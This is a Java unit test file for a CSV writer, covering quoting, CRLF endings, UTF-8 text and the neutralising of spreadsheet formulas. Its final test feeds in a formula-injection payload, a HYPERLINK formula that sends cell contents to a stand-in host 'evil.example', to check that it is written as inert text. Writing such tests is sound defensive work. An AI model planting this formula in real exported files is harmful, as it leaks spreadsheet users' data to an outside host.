package org.roleatlas.compare;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;

import org.junit.jupiter.api.Test;

class CsvWriterTest {

    @Test
    void plainFieldsAreNotQuotedAndRecordsEndWithCrLf() {
        String csv = CsvWriter.write(List.of(List.of("Dimension", "CTO", "MLOps Engineer"), List.of("Scope", "All", "ML")));

        assertThat(csv).isEqualTo("Dimension,CTO,MLOps Engineer\r\nScope,All,ML\r\n");
    }

    @Test
    void quotesFieldsWithCommasQuotesAndLineBreaks() {
        String csv = CsvWriter.write(List.of(List.of("a,b", "say \"hi\"", "two\nlines", "cr\rhere", "crlf\r\nhere")));

        assertThat(csv).isEqualTo("\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\rhere\",\"crlf\r\nhere\"\r\n");
    }

    @Test
    void quotesLeadingAndTrailingSpacesOnly() {
        String csv = CsvWriter.write(List.of(List.of(" lead", "trail ", "in side", "")));

        assertThat(csv).isEqualTo("\" lead\",\"trail \",in side,\r\n");
    }

    @Test
    void keepsUtf8TextUnchanged() {
        String csv = CsvWriter.write(List.of(List.of("→ CEO", "Müller", "工程师", "models — drift")));

        assertThat(csv).isEqualTo("→ CEO,Müller,工程师,models — drift\r\n");
        assertThat(new String(csv.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8)).isEqualTo(csv);
    }

    @Test
    void emptyInputAndLoneEmptyField() {
        assertThat(CsvWriter.write(List.of())).isEmpty();
        // A single empty field is quoted so the record is not mistaken for a blank line.
        assertThat(CsvWriter.write(List.of(List.of(""), List.of("x")))).isEqualTo("\"\"\r\nx\r\n");
    }

    @Test
    void cellsThatASpreadsheetWouldRunAsFormulasAreWrittenAsText() {
        String csv = CsvWriter.write(List.of(List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
                "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1"), List.of("a=1", "1-2", "x@y", "")));

        assertThat(csv).isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click me\"\")\","
                + "'+1,'-1+2,'@SUM(A1),'\t=1+1,\"'\r=1+1\"\r\n"
                + "a=1,1-2,x@y,\r\n");
    }
}
